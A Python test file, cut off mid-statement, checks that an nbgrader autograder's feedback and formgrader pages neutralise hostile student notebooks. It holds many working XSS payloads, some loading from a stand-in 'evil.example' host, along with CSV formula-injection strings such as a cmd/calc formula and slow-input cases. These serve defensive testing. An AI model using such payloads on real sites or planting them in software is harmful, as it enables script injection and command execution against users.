"""What a hostile submission puts on the pages that instructors and students open: nothing.

With the variable COURSE_SCREENSHOTS set to a folder, pictures of the pages are kept there.
"""

from __future__ import annotations

import base64
import copy
import csv
import io
import os
import re
import shutil
import sysconfig
import time
from datetime import UTC, datetime
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from browser import served, shot
from bs4 import BeautifulSoup
from classroom import PLAIN, Classroom, add_plain_assignment, answered, cell
from hypothesis import given
from hypothesis import strategies as st
from jinja2 import Environment
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode, v4
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from patience import A_LONG_TIME

from autograder import feedback
from autograder.checks.verdict import RIGHT, WRONG, Verdict
from autograder.export import CsvExport
from autograder.feedback.named import name_of_graded

PIXEL = base64.b64encode(
    base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
).decode()
RUN = "window.hacked=1;fetch('/hacked')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'

# Each would act as HTML, and as Markdown.
ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "script-loaded": '<script src="https://evil.example/hacked.js"></script>',
    "script-in-pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "handler": f'<img src="x" onerror="{RUN}">',
    "handler-without-quotes": "<img/src=x/onerror=window.hacked=1>",
    "handler-on-details": f'<details open ontoggle="{RUN}">x</details>',
    "autofocus": f'<input autofocus onfocus="{RUN}">',
    "link": f'<a href="javascript:{RUN}" id="top">click</a>',
    "link-disguised": f'<a href=" java&#10;script:{RUN}">click</a>',
    "link-to-html": '<a href="data:text/html,<script>1</script>">click</a>',
    "link-to-server": '<a href="/formgrader?path=submitted/eve">click</a>',
    "picture-from-server": '<img src="/formgrader?path=submitted/eve/hacked">',
    "picture-from-server-up": '<img src="../../../../logout?hacked">',
    "picture-from-outside": '<img src="//evil.example/hacked.png">',
    "picture-set": '<img srcset="https://evil.example/hacked.png 1x">',
    "frame": f'<iframe srcdoc="<script>parent.hacked=1</script>" src="javascript:{RUN}"></iframe>',
    "object": '<object data="/hacked"></object><embed src="/hacked">',
    "refresh": '<meta http-equiv="refresh" content="0;url=/hacked">',
    "base": '<base href="https://evil.example/hacked/">',
    "style-sheet": "<style>@import '/hacked.css'; body {display: none}</style>",
    "style-link": '<link rel="stylesheet" href="/hacked.css">',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake</div>',
    "style-url": '<div style="background:url(/hacked)">x</div>',
    "style-url-escaped": r'<div style="background:u\72l(/hacked)">x</div>',
    "style-image-set": "<div style=\"background:image-set('/hacked' 1x)\">x</div>",
    "page-classes": '<div class="modal navbar-fixed-top in">x</div>',
    "page-data": '<a data-link="evil" data-toggle="modal">x</a>',
    "page-names": '<p name="score" id="test-double">x</p>',
    "form": '<form action="/hacked"><button formaction="/hacked">Full credit</button></form>',
    "svg": SVG,
    "svg-animated": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>',
    "maths-ml": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</math>',
    "mutation": f"<svg><p><style><img title=\"</style><img src=x onerror='{RUN}'>\"></svg>",
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation-textarea": f'<textarea><img alt="</textarea><img src=x onerror={RUN}>"></textarea>',
    "comment": f"<!--><script>{RUN}</script>-->",
    "template": f"<template><script>{RUN}</script></template>",
    "unclosed": "</div></div></div></body></html><table><tr><td><select>",
}
MARKDOWN_ATTACKS = {
    "md-link": f"[click](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    "md-link-reference": "[click][1]\n\n[1]: javascript:window.hacked=1",
    "md-autolink": "<javascript:window.hacked=1>",
    "md-picture": "![x](/formgrader?path=submitted/eve/hacked)",
    "md-picture-svg": f"![x](data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()})",
    "md-title": '![x](p.png "\\" onerror=window.hacked=1 x=")',
    "md-code-language": '```python" onclick="window.hacked=1\nx\n```',
    "md-mermaid": "```mermaid\ngraph TD; A-->B; click A call alert()\n```",
    "md-missing-picture": "![a plot](attachment:none.png)",
    "md-maths": r"$\href{javascript:window.hacked=1}{x}$ $</p><script>window.hacked=1</script>$",
}
# In a page, only these; a link or a form can make an instructor act, a frame can look like one.
ALLOWED_TAGS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "wbr", "div", "span", "pre", "code"),
    *("em", "strong", "b", "i", "u", "s", "del", "ins", "sub", "sup", "kbd", "mark", "small", "q"),
    *("ul", "ol", "li", "dl", "dt", "dd", "blockquote", "details", "summary", "img"),
    *("table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption"),
}
ALLOWED_ATTRIBUTES = {
    *("style", "title", "class", "role", "scope", "src", "alt", "width", "height"),
    *("border", "align", "valign", "colspan", "rowspan", "start", "open"),
}


def rendered(source: str, **variables) -> str:
    """Markdown as a template makes HTML of it."""
    environment = Environment()
    environment.filters["markdown2html"] = feedback.markdown2html
    return environment.from_string("{{ source | markdown2html }}").render(
        source=source, **variables
    )


def assert_inert(fragment) -> None:
    """Nothing in a parsed fragment acts, loads, links, or takes part in the page around it."""
    for tag in fragment.find_all(True):
        assert tag.name in ALLOWED_TAGS, tag
        assert set(tag.attrs) <= ALLOWED_ATTRIBUTES, tag
        if "src" in tag.attrs:
            assert re.match(r"data:image/(png|jpeg|gif|webp);base64,|[\w/ ]+\.png$", tag["src"]), (
                tag
            )
        style = re.sub(r"var\(--[\w-]+, *#\w+\)", "", tag.attrs.get("style", "")).lower()
        assert not re.search(r"position|url|\(|@|\\|z-index|float|transform", style), tag
        for name in tag.attrs.get("class", []):
            assert name in {"dataframe", "highlight", "hl-ipython3"} or len(name) <= 3, tag


def soup(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, features="html.parser")


@pytest.mark.parametrize("source", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_in_html_is_inert(source):
    assert_inert(soup(feedback.clean_html(source)))


@pytest.mark.parametrize(
    "source", [*ATTACKS.values(), *MARKDOWN_ATTACKS.values()], ids=[*ATTACKS, *MARKDOWN_ATTACKS]
)
def test_an_attack_in_markdown_is_inert(source):
    assert_inert(soup(rendered(source)))


@given(st.lists(st.sampled_from([*ATTACKS.values(), "<div>", "</p>", '"', "'", "`", "$", "\n"])))
def test_attacks_put_together_are_inert(pieces):
    assert_inert(soup(feedback.clean_html("".join(pieces))))
    assert_inert(soup(rendered("".join(pieces))))


def test_a_fragment_ends_where_it_ends():
    after = soup(feedback.clean_html("<table><td></div></div><b><pre>") + "<p id=next>x</p>")
    assert after.find(id="next").parent is after


def test_tables_keep_their_looks():
    table = pd.DataFrame({"a": [1, 2]}, index=["<b>", "y"]).to_html()
    cleaned = soup(feedback.clean_html(table))
    assert cleaned.table["class"] == ["dataframe"]
    assert cleaned.tr["style"] == "text-align:right"
    assert [one.text for one in cleaned.find_all("th")] == ["", "a", "<b>", "y"]


@pytest.mark.parametrize("state", [RIGHT, WRONG])
def test_a_verdict_keeps_its_looks(state):
    verdict = Verdict(
        exercise="04.softmax",
        title="softmax of each row",
        state=state,
        score=1,
        points=2,
        seen="`nan` **here**",
        why="because\n```\nx = 1\n```\n",
        printed="<1>",
        lesson="course/04_logits.ipynb",
        heading="Large scores: subtract the maximum",
    )
    before, after = soup(verdict.to_html()), soup(feedback.clean_html(verdict.to_html()))
    assert after.text == before.text
    styles = [[_declarations(tag) for tag in one.select("[style]")] for one in (before, after)]
    assert styles[1][1:] == styles[0]  # the first is that of the box around
    assert after.select("[role=status]")


def _declarations(tag) -> dict[str, str]:
    pairs = (pair.split(":") for pair in tag["style"].split(";"))
    return {name: re.sub(r"(?<![\d])0\.", ".", value).replace(", ", ",") for name, value in pairs}


def test_maths_code_pictures_and_folded_hints_stay():
    page = soup(
        rendered(
            "# Title\n\nmaths $a_1 < b$ and\n\n$$\\frac{1}{2}$$\n\n```python\nx = 1\n```\n\n"
            "| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
            "<details><summary>Hint 1</summary>\n\n*think*\n\n</details>\n\n"
            "![plot](attachment:p.png) ![beside](pictures/my plot.png) ![](next.png)",
            cell={"attachments": {"p.png": {"image/png": PIXEL}}},
        )
    )
    assert "$a_1 < b$" in page.text
    assert "$$\\frac{1}{2}$$" in page.text
    assert page.h1.text == "Title"
    assert [one["class"] for one in page.select(".highlight span[class=mi]")] == [["mi"]]
    assert [one.text for one in page.find_all("td")] == ["1", "2"]
    assert page.details.summary.text == "Hint 1"
    assert page.details.em.text == "think"
    assert [one["src"] for one in page.find_all("img")] == [
        f"data:image/png;base64,{PIXEL}",
        "next.png",
    ]


def test_a_link_shows_its_address_and_leads_nowhere():
    page = soup(rendered("[the guide](https://keras.io/guides) and https://keras.io"))
    assert page.text.strip() == "the guide (https://keras.io/guides) and https://keras.io"
    assert not page.find("a")


def test_a_picture_that_is_not_there_is_described():
    assert soup(rendered("![a plot](attachment:none.png)")).text.strip() == "a plot"


def test_colours_stay_and_other_escape_sequences_go():
    text = (
        "\x1b[1;31mred\x1b[0m \x1b[38;5;9mtoo\x1b[m \x1b[2J\x1b]8;;http://x\x07link\x1b]8;;\x07 <b>"
    )
    page = soup(feedback.ansi2html(text))
    assert page.text == "red too link <b>"
    assert len(page.select("span[class*=ansi]")) == 2


@given(
    st.lists(st.sampled_from(["\x1b", "[", "]", "38", "048", "٣٨", ";", "5", "2", "m", "K", "999"]))
)
def test_no_escape_sequence_stops_a_page(pieces):
    assert "\x1b" not in feedback.ansi2html("".join(pieces) + "x")


SLOW = {
    "deep HTML": (feedback.clean_html, "<div>" * 100_000),
    "long style": (feedback.clean_html, f'<p style="{"a" * 300_000}">'),
    "colours": (feedback.ansi2html, "\x1b[31mx" * 160_000),
    "blank lines": (feedback.highlight_code, "\n " * 10_000),
    "long code": (feedback.highlight_code, "x=" * 100_000),
    "open brackets in Markdown": (rendered, "\\\\(" * 60_000),
    "open brackets in short Markdown": (rendered, "\\\\(" * 6_000),
    "code of another language": (rendered, "```perl\n" + "s" * 19_000 + "\n```"),
}


@pytest.mark.parametrize(("make", "source"), SLOW.values(), ids=SLOW)
def test_no_text_makes_a_page_slow(make, source):
    start = time.process_time()
    make(source)
    assert time.process_time() - start < 5  # seconds; without limits, minutes


def test_long_code_is_shown_to_its_end():
    code = "x = 1\n" * 10_000 + "last = '<b>'"
    assert feedback.highlight_code(code).endswith("last = &#x27;&lt;b&gt;&#x27;</pre>")


def disarmed(notebook: NotebookNode, **resources) -> tuple[NotebookNode, dict]:
    return feedback.Disarm(enabled=True)(copy.deepcopy(notebook), resources)


def test_outputs_keep_what_can_be_shown():
    data = {
        "application/javascript": RUN,
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "application/pdf": "x",
        "text/plain": "plain\x00 \u202etext\ud800",
        "image/png": PIXEL,
    }
    metadata = {"image/png": {"width": 20, "height": '1" onload="x', "unconfined": True}}
    metadata |= {"filenames": {"image/png": "/hacked"}, "text/html": {"isolated": True}}
    outputs = [
        v4.new_output("display_data", data=data, metadata=metadata),
        v4.new_output("display_data", data={"application/javascript": RUN}),
    ]
    notebook = v4.new_notebook(cells=[v4.new_code_cell("", outputs=outputs)])
    both = disarmed(notebook)[0].cells[0].outputs
    assert both[0].data == {"text/plain": "plain text", "image/png": PIXEL}
    assert both[0].metadata == {"image/png": {"width": 20}}
    assert list(both[1].data) == ["text/plain"]


def test_metadata_and_names_become_plain():
    flags = {"grade_id": "double", "solution": True}
    cells = [
        v4.new_code_cell("x", metadata={"tags": ["modal navbar-fixed-top"], "nbgrader": flags}),
        v4.new_code_cell("x", metadata={"nbgrader": {"grade_id": "<b>", "grade": True}}),
        v4.new_raw_cell("x", metadata={"nbgrader": "text", "raw_mimetype": "text/html"}),
    ]
    metadata = {"title": "<script>", "kernelspec": {"name": "<b>", "display_name": "<b>"}}
    notebook, resources = disarmed(
        v4.new_notebook(cells=cells, metadata=metadata | {"widgets": {"x": 1}}),
        student='"><img src=x>',
        first_name="An\u202en\x1ba",
        last_name=None,
    )
    assert notebook.metadata == {"language_info": {"name": "python"}}
    assert [one.metadata for one in notebook.cells] == [{"nbgrader": flags}, {}, {}]
    assert resources["student"] == "&quot;&gt;&lt;img src=x&gt;"
    assert resources["last_name"] is None
    assert "\u202e" not in resources["first_name"]


# A class that plain nbgrader has recorded: outputs and metadata are the submission's own.

AS_SUBMITTED = """
from nbgrader.preprocessors import SaveAutoGrades
c.Autograde.exporter_class = "nbconvert.exporters.NotebookExporter"
c.Autograde.sanitize_preprocessors = [OverwriteCells]
c.Autograde.autograde_preprocessors = [SaveAutoGrades]
"""
SECRET = "assert double(-5) == -10"  # the hidden test in classroom.py
EVE = "eve\"><img src=x onerror=window.hacked='id'>"
HOSTILE_NAME = f'<img src=x onerror="{RUN}">'
HONEST = "ada"


def hostile(released: NotebookNode) -> NotebookNode:
    notebook = copy.deepcopy(released)
    outputs = [v4.new_output("display_data", data={"text/html": a}) for a in ATTACKS.values()]
    both = [*ATTACKS.values(), *MARKDOWN_ATTACKS.values()]
    outputs += [v4.new_output("display_data", data={"text/markdown": a}) for a in both]
    outputs += [
        v4.new_output("display_data", data={"application/javascript": RUN}),
        v4.new_output("display_data", data={"image/svg+xml": SVG}),
        v4.new_output("display_data", data={"text/latex": f"$x$<script>{RUN}</script>"}),
        v4.new_output("display_data", data={"image/png": f'x" onerror="{RUN}'}),
        v4.new_output("stream", name="stdout", text=f"<script>{RUN}</script>\x1b[38m\x1b]0;x\x07"),
        v4.new_output("error", ename="<b>", evalue="<i>", traceback=[f"<script>{RUN}</script>"]),
        v4.new_output(
            "display_data",
            data={"text/html": f"<script>parent.hacked=1;{RUN}</script>"},
            metadata={"text/html": {"isolated": True}},
        ),
    ]
    notebook.cells += [v4.new_markdown_cell(source) for source in both]
    notebook.cells += [v4.new_raw_cell(source) for source in ATTACKS.values()]
    show = v4.new_code_cell("show()", outputs=outputs, execution_count=1)
    show.metadata["tags"] = ["modal in navbar-fixed-top"]
    notebook.cells.insert(1, show)  # before hidden tests, after which nothing is shown
    notebook.metadata.title = f"</title><script>{RUN}</script>"
    notebook.metadata.language_info = {"name": f'"><script>{RUN}</script>'}
    notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}
    }
    return notebook


def traceback_of(source: str, failed: int, message: str = "") -> NotebookNode:
    """The error of a test cell as IPython prints it, in colours."""
    arrows = {failed: "---->"}
    lines = [
        f"\x1b[92m{arrows.get(n, '     ')} {n}\x1b[39m {line.replace(' ', chr(27) + '[39m ')}"
        for n, line in enumerate(source.splitlines(), 1)
    ]
    head = ["\x1b[91mAssertionError\x1b[39m   Traceback (most recent call last)", "Cell In[2]"]
    last = f"AssertionError: {message}"
    return v4.new_output(
        "error", ename="AssertionError", evalue=message, traceback=[*head, "\n".join(lines), last]
    )


WITH_HIDDEN = f"""assert double(3) == 6, "of 3"
### BEGIN HIDDEN TESTS
{SECRET}, "of -5"
### END HIDDEN TESTS"""


def leaky(released: NotebookNode) -> NotebookNode:
    """A wrong answer marked by plain nbgrader, in a kernel that had the hidden tests."""
    notebook = answered(released, {"double": "def double(x):\n    return abs(x) * 2"})
    test = cell(notebook, "test-double")
    test.outputs = [traceback_of(WITH_HIDDEN, failed=3)]
    kept = repr(f"print('x')\n### BEGIN HIDDEN TESTS\n{SECRET}\n### END HIDDEN TESTS")
    stolen = [
        v4.new_output("stream", name="stdout", text=f"\x1b[1m{SECRET}\x1b[0m\n"),
        v4.new_output("execute_result", data={"text/plain": kept}, execution_count=9),
        v4.new_output(
            "display_data", data={"text/html": "<pre>assert double(&#45;5) == -10</pre>"}
        ),
        v4.new_output("stream", name="stdout", text="an honest line\n"),
    ]
    notebook.cells.insert(1, v4.new_code_cell("print(In[-1])", outputs=stolen))
    return notebook


def honest(released: NotebookNode) -> NotebookNode:
    """Table, plot, maths, verdict."""
    import matplotlib

    matplotlib.use("agg")
    from matplotlib.figure import Figure

    figure, file = Figure(figsize=(4, 2.5)), io.BytesIO()
    figure.subplots().plot([1, 4, 9])
    figure.savefig(file, format="png")
    plot = base64.b64encode(file.getvalue()).decode()
    frame = pd.DataFrame({"loss": [0.5, 0.25], "accuracy": [0.75, 0.875]})
    verdict = Verdict(
        exercise="04.softmax",
        title="softmax of each row",
        state=WRONG,
        score=1,
        points=2,
        seen="the largest score is `1000`, and exp(1000) is larger than the largest float",
        why="So the quotient is **nan**.",
        lesson="course/04_logits.ipynb",
        heading="Large scores: subtract the maximum",
    )
    outputs = [
        v4.new_output("stream", name="stdout", text="\x1b[32mepoch 1\x1b[0m\n"),
        v4.new_output(
            "display_data", data={"text/html": frame.to_html(), "text/plain": str(frame)}
        ),
        v4.new_output("display_data", data={"image/png": plot, "text/plain": "<Figure>"}),
        v4.new_output("display_data", data={"text/html": verdict.to_html(), "text/plain": "x"}),
    ]
    notebook = answered(released, {"double": "def double(x):\n    return 2 * x"})
    text = "## My answer\n\nThe loss is $-\\log p$, see [the guide](https://keras.io).\n\n"
    notebook.cells.append(v4.new_markdown_cell(text + "| a | b |\n|---|---|\n| 1 | 2 |"))
    notebook.cells.insert(1, v4.new_code_cell("frame", outputs=outputs, execution_count=3))
    return notebook


@pytest.fixture(scope="module")
def room(tmp_path_factory):
    """A class with one hostile, one leaky and one honest submission, and their feedback."""
    room = Classroom.open(tmp_path_factory.mktemp("feedback"))
    released = add_plain_assignment(room)
    room.submit(EVE, PLAIN, hostile(released))
    room.submit("lea", PLAIN, leaky(released))
    room.submit(HONEST, PLAIN, honest(released))
    settings = room.root / "nbgrader_config.py"
    ours = settings.read_text(encoding="utf-8")
    settings.write_text(ours + AS_SUBMITTED, encoding="utf-8")
    outcome = room.nbgrader("autograde", PLAIN)
    assert outcome.returncode == 0, outcome.stderr
    settings.write_text(ours, encoding="utf-8")
    with Gradebook(room.db_url, "keras") as gradebook:
        gradebook.update_or_create_student(EVE, first_name=HOSTILE_NAME, last_name=HOSTILE_NAME)
    outcome = room.nbgrader("generate_feedback", PLAIN)
    assert outcome.returncode == 0, outcome.stderr
    return room


def of_submission(page: BeautifulSoup) -> list:
    """What stands on a page of nbgrader where a cell or an output of the notebook is shown."""
    return page.select(".text_cell_render, .output_subarea, .input_area, .comment")


def plain_page(room: Classroom) -> str:
    """The hostile submission on a page of plain nbconvert."""
    path = room.root / "autograded" / EVE / PLAIN / f"{PLAIN}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    # These two would stop nbconvert.
    notebook.cells = [one for one in notebook.cells if "attachment:none" not in one.source]
    for one in notebook.cells[1].outputs:
        for texts in (one, one.get("data", {})):
            for key in texts.keys() & {"text", "text/markdown"}:
                texts[key] = re.sub("attachment:none|\x1b.38m", "", texts[key])
    page, _ = HTMLExporter(template_name="classic").from_notebook_node(notebook)
    return page


@pytest.mark.slow
def test_the_class_is_as_hostile_as_it_should_be(room):
    page = plain_page(room)
    assert f"<script>{RUN}</script>" in page
    assert "celltag_modal in navbar-fixed-top" in page


@pytest.mark.slow
def test_feedback_of_a_hostile_submission_is_inert(room):
    page = soup(room.feedback(EVE, PLAIN))
    shown = of_submission(page)
    assert len(shown) > 2 * len(ATTACKS)
    for fragment in shown:
        for picture in fragment.select("img[src^='data:image/svg+xml']"):
            picture.decompose()  # the output; an <img> does not run it
        for span in fragment.select("span[class^=ansi]"):
            span.unwrap()
        assert_inert(fragment)
    assert not page.find_all(
        ["script", "iframe", "object", "embed", "form", "input", "base", "link"]
    )
    assert not [tag for tag in page.find_all(True) if any(a.startswith("on") for a in tag.attrs)]
    assert {tag["href"][0] for tag in page.select("[href]")} == {"#"}
    [policy] = page.select("meta[http-equiv]")
    assert policy["http-equiv"] == "Content-Security-Policy"
    assert "default-src 'none'" in policy["content"]
    assert "script-src" not in policy["content"]


@pytest.mark.slow
def test_feedback_needs_no_network(room):
    for student in (EVE, HONEST):
        text = room.feedback(student, PLAIN)
        assert "cdnjs" not in text
        page = soup(text)
        loaded = [tag["src"] for tag in page.select("[src]")]
        assert all(source.startswith("data:image/") for source in loaded if source != "p.png")


@pytest.mark.slow
def test_feedback_holds_no_hidden_text(room):
    page = soup(room.feedback("lea", PLAIN))
    said = page.body.text
    for hidden in ("HIDDEN TESTS", "double(-5)", "-10"):
        assert hidden not in said
        assert hidden not in str(page.body)
    assert "AssertionError: a hidden test failed" in said
    assert "assert double(3) == 6" in said
    assert "an honest line" in said
    assert said.count("[not shown: it holds hidden tests]") == 3


@pytest.mark.slow
def test_feedback_of_an_honest_submission_keeps_all(room):
    page = soup(room.feedback(HONEST, PLAIN))
    assert page.h4.text == f"{PLAIN}: 3 of 3 points"
    graded = [" ".join(one.text.split()) for one in page.select("#toc li")]
    assert graded == ["test-double: 2 of 2 points", "test-half: 1 of 1 points"]
    assert "The loss is $-\\log p$, see the guide (https://keras.io)." in page.text
    assert page.select("table.dataframe")
    assert page.select("img[src^='data:image/png']")
    assert "not right yet, 1 of 2 points" in page.select_one("[role=status]").text
    assert page.select(".ansi-green-fg")


@pytest.mark.parametrize(
    ("failed", "message", "said"),
    [
        (1, "of 3", ['failed: assert double(3) == 6, "of 3"', "AssertionError: of 3"]),
        (3, "of -5", ["AssertionError: a hidden test failed"]),
        (3, "", ["AssertionError: a hidden test failed"]),
    ],
)
def test_of_a_traceback_only_what_failed_is_left(failed, message, said):
    test = v4.new_code_cell(
        WITH_HIDDEN,
        metadata={"nbgrader": {"grade_id": "t", "grade": True}},
        outputs=[traceback_of(WITH_HIDDEN, failed, message)],
    )
    notebook, _ = feedback.HideTests()(v4.new_notebook(cells=[test]), {})
    [output] = notebook.cells[0].outputs
    assert output.traceback == said
    assert output.evalue == said[-1].removeprefix("AssertionError: ")


def test_markers_in_a_students_own_cell_stop_nothing():
    flags = {"grade_id": "double", "solution": True, "grade": False, "locked": False}
    own = v4.new_code_cell("### BEGIN HIDDEN TESTS\nx = 1", metadata={"nbgrader": flags})
    loose = v4.new_code_cell("### BEGIN HIDDEN TESTS\nx = 1")
    notebook = v4.new_notebook(cells=[own, loose])
    after, _ = feedback.HideTests()(copy.deepcopy(notebook), {})
    assert [one.source for one in after.cells] == [own.source, loose.source]


def test_mark_schemes_are_hidden_and_the_engines_hints_stay():
    task = v4.new_markdown_cell(
        "Explain.\n=== BEGIN MARK SCHEME ===\n1 point for gradient\n=== END MARK SCHEME ===",
        metadata={"nbgrader": {"grade_id": "t", "task": True, "locked": True}},
    )
    hint = v4.new_output(
        "error", ename="CheckFailed", evalue="x", traceback=["✘ 04.softmax", "Why"]
    )
    test = v4.new_code_cell(
        "check(f)\n### BEGIN HIDDEN TESTS\nassert f(2) == 4\n### END HIDDEN TESTS",
        metadata={"nbgrader": {"grade_id": "g", "grade": True, "locked": True}},
        outputs=[hint],
    )
    notebook, _ = feedback.HideTests()(v4.new_notebook(cells=[task, test]), {})
    assert notebook.cells[0].source == "Explain."
    assert notebook.cells[1].source == "check(f)"
    assert notebook.cells[1].outputs == [hint]


FORMULAS = {
    "eve": ("=cmd|' /C calc'!A0", "@SUM(1)", "+1@x.example"),
    "mal": ("-2+3", "a,b", 'c"d'),
    "tab": ("\t=1+1", "x\ny\x1b[2J", "\u202e=x"),
}


@pytest.fixture(scope="module")
def database(tmp_path_factory):
    """The file of a gradebook: two assignments, two students, one submission."""
    path = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
    with pytest.MonkeyPatch.context() as patch:
        # `Gradebook` calls `alembic` by name.
        scripts = sysconfig.get_path("scripts")
        patch.setenv("PATH", f"{scripts}{os.pathsep}{os.environ['PATH']}")
        with Gradebook(f"sqlite:///{path}", "keras") as gradebook:
            gradebook.add_assignment("ps1", duedate="2026-11-01")
            gradebook.add_assignment("ps2")
            gradebook.add_notebook("p1", "ps1")
            gradebook.add_grade_cell("t", "p1", "ps1", max_score=4, cell_type="code")
            gradebook.add_student("ada", first_name="Ada", last_name="Byron", email="a@x.example")
            gradebook.add_student("bob")
            when = datetime(2026, 11, 2, tzinfo=UTC)
            submission = gradebook.add_submission("ps1", "ada", timestamp=when)
            submission.notebooks[0].late_submission_penalty = 1.5
            submission.notebooks[0].grades[0].auto_score = 3
            gradebook.db.commit()
    return path


@pytest.fixture
def gradebook(database, tmp_path):
    copied = shutil.copyfile(database, tmp_path / "gradebook.db")
    with Gradebook(f"sqlite:///{copied}", "keras") as gradebook:
        yield gradebook


def exported(plugin, gradebook, path: Path, **options) -> list[dict[str, str]]:
    plugin(to=str(path), **options).export(gradebook)
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize(
    "options", [{}, {"student": ["ada"]}, {"assignment": ["ps2"]}, {"student": ["none"]}]
)
def test_export_has_the_rows_of_nbgraders_own(gradebook, tmp_path, options):
    ours = exported(CsvExport, gradebook, tmp_path / "ours.csv", **options)
    theirs = exported(CsvExportPlugin, gradebook, tmp_path / "theirs.csv", **options)
    assert [{**row, "status": one["status"]} for row, one in zip(theirs, ours, strict=True)] == ours
    if not options:
        assert len(ours) == 4
        assert sorted(float(row["score"]) for row in ours) == [0, 0, 0, 1.5]


def test_no_name_becomes_a_formula_or_a_column(gradebook, tmp_path):
    for name, (last, first, email) in FORMULAS.items():
        gradebook.add_student(name, last_name=last, first_name=first, email=email)
    rows = exported(CsvExport, gradebook, tmp_path / "grades.csv", assignment=["ps1"])
    rows = {row.pop("student_id"): row for row in rows}
    assert rows["eve"]["last_name"] == "'=cmd|' /C calc'!A0"
    assert rows["mal"]["first_name"] == "a,b"
    assert rows["mal"]["email"] == 'c"d'
    assert rows["tab"]["first_name"] == "x y[2J"
    for row in rows.values():
        assert None not in row
        assert not [text for text in row.values() if text and text[0] in "=+-@\t\r\n"]


# In a browser.


@pytest.fixture(scope="module")
def formgrader(room, tmp_path_factory):
    """JupyterLab for instructors on the class."""
    with served(room, tmp_path_factory.mktemp("jupyter"), instructor=True) as address:
        yield address


class Watched:
    """A window in which it is seen if anything of a submission acts."""

    def __init__(self, browser):
        self.context = browser.new_context(viewport={"width": 1200, "height": 1400})
        self.context.set_default_timeout(1000 * A_LONG_TIME)
        # The one address outside, MathJax: as without a network.
        self.context.route("**://*.cloudflare.com/**", lambda route: route.abort())
        self.page = self.context.new_page()
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.refused: list[str] = []
        self.page.on(
            "dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss())
        )
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on(
            "console",
            lambda line: self.refused.append(line.text) if "Security Policy" in line.text else None,
        )

    def settle(self) -> None:
        """Wait until all pictures are there or have failed, and what that starts has run."""
        self.page.wait_for_load_state("networkidle")
        self.page.wait_for_function("[...document.images].every(picture => picture.complete)")
        self.page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done)))")

    def hacked(self) -> bool:
        self.settle()
        loaded = [
            url for url in self.requests if "hacked" in url or "evil" in url or "path=" in url
        ]
        return bool(self.dialogs or loaded or self.page.evaluate("'hacked' in window"))


@pytest.fixture
def watched(chromium):
    watched = Watched(chromium)
    yield watched
    watched.context.close()


def open_page(watched: Watched, folder: Path, page: str) -> None:
    (folder / "page.html").write_text(page, encoding="utf-8")
    watched.page.goto((folder / "page.html").as_uri())


def open_formgrader(watched: Watched, room: Classroom, address: str, student: str) -> None:
    with Gradebook(room.db_url, "keras") as gradebook:
        submission = gradebook.find_submission_notebook(PLAIN, PLAIN, student).id
    watched.page.goto(f"{address}/login?token=letmein")
    watched.page.goto(f"{address}/formgrader/submissions/{submission}/")
    sync_api = pytest.importorskip("playwright.sync_api")
    sync_api.expect(watched.page.locator("#test-half")).to_have_attribute(
        "placeholder", re.compile(".")
    )  # the mark


@pytest.mark.browser
@pytest.mark.slow
def test_the_attacks_work_on_a_page_of_plain_nbconvert(watched, room, tmp_path):
    """Otherwise the tests below say nothing."""
    open_page(watched, tmp_path, plain_page(room))
    assert watched.hacked()


@pytest.mark.browser
@pytest.mark.slow
def test_nothing_acts_in_feedback(watched, room, tmp_path):
    open_page(watched, tmp_path, room.feedback(EVE, PLAIN))
    assert not watched.hacked()
    assert [url for url in watched.requests if not url.startswith(("data:", "file:"))] == []
    shot(watched.page, "feedback-hostile")


@pytest.mark.browser
@pytest.mark.slow
def test_feedback_shows_honest_work(watched, room, tmp_path):
    open_page(watched, tmp_path, room.feedback(HONEST, PLAIN))
    assert_shown(watched.page)
    # Bootstrap asks for a font of icons that nbgrader never puts beside feedback.
    assert [line for line in watched.refused if "glyphicons" not in line] == []
    shot(watched.page, "feedback-honest")


@pytest.mark.browser
@pytest.mark.slow
def test_a_script_in_feedback_would_not_run(watched, room, tmp_path):
    attacks = [source for source in ATTACKS.values() if "refresh" not in source]
    page = room.feedback(HONEST, PLAIN).replace("</body>", f"{''.join(attacks)}</body>")
    open_page(watched, tmp_path, page)
    assert not watched.page.evaluate("'hacked' in window")
    assert watched.refused


@pytest.mark.browser
@pytest.mark.slow
def test_nothing_acts_in_formgrader(watched, room, formgrader):
    open_formgrader(watched, room, formgrader, EVE)
    assert not watched.hacked()
    assert (
        watched.page.locator(".live-notebook .name-shown").first.text_content().count("<img") == 2
    )
    parts = watched.page.locator(".text_cell_render, .output_subarea, .input_area")
    for fragment in parts.evaluate_all("parts => parts.map(part => part.outerHTML)"):
        inner = soup(fragment).find()
        assert not inner.find_all(
            ["a", "script", "iframe", "form", "input", "style", "svg", "math"]
        )
        assert not [
